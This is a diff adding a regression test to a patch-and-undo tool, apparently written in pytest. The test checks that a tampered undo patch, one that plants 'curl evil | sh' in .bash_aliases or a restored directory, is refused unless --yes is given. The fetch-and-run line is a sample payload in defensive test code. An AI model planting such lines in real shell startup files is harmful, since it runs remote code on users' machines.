@@ -276,3 +276,42 @@ def test_a_hand_made_undo_patch_is_not_restored_without_yes(lo, tmp_path):
     r = lo("undo", evil, "--target", lo.target, "--yes")
     assert r.returncode == 0, r.stderr
     assert (lo.target / ".bash_aliases").read_text() == "curl evil | sh\n"
+
+
+def test_an_undo_patch_with_a_change_its_undo_store_does_not_hold_is_not_restored_without_yes(lo, tmp_path):
+    """Found by attack14 (27 Nov): the check that let `undo FILE` go without
+    --yes asked only that every path of the tree's undo record be a change of
+    the patch, not the converse. The exported undo patch of a real apply, with
+    one more change added (a `.bash_aliases`: a patch anyone who can write
+    FILE can remake, an agent's session over the dir that keeps it too), was
+    restored at once, listing and asking nothing. Now every change of the patch
+    must be a path of the record, or lie beneath one whose original the store
+    keeps and be an entry of that original, of the same type."""
+    import sys
+    import tarfile
+    sys.path.insert(0, os.path.dirname(__file__))
+    from patch_builder import PatchBuilder, compress, tar_bytes, with_sums
+    prepared(lo, tmp_path)
+    name = session(lo)
+    undo_file = tmp_path / "undo.tar.zst"
+    r, out = apply_undo_to(lo, name, undo_file)
+    assert r.returncode == 0, r.stderr.decode(errors="replace")
+    after = snapshot(lo.target)
+    # Beside the record's paths, and beneath one (gone/, a dir the apply deleted, which undo restores).
+    for path in (".bash_aliases", "gone/run.sh"):
+        manifest, members = read_patch(undo_file)
+        extra = PatchBuilder(lo.target).file(path, b"curl evil | sh\n")
+        manifest["changes"] += extra.manifest["changes"]
+        manifest["base"] += extra.manifest["base"]
+        payload = [(i, d) for i, d in members[1:] if i.name != ".layover/sums"] + extra.members
+        text = json.dumps(manifest, indent=1).encode()
+        evil = compress(tar_bytes(with_sums([(tarfile.TarInfo(".layover/manifest.json"), text)] + payload)),
+                        tmp_path / "evil-undo.tar.zst")
+        r = lo("undo", evil, "--target", lo.target)
+        assert r.returncode == 1, (path, r.stdout)
+        assert b"is an undo patch of no apply this tree's undo records know" in r.stderr, r.stderr
+        assert snapshot(lo.target) == after
+    # The patch as exported still goes without --yes.
+    r = lo("undo", undo_file, "--target", lo.target)
+    assert r.returncode == 0, r.stderr.decode(errors="replace")
+    assert not (lo.target / ".bash_aliases").exists() and not (lo.target / "gone" / "run.sh").exists()
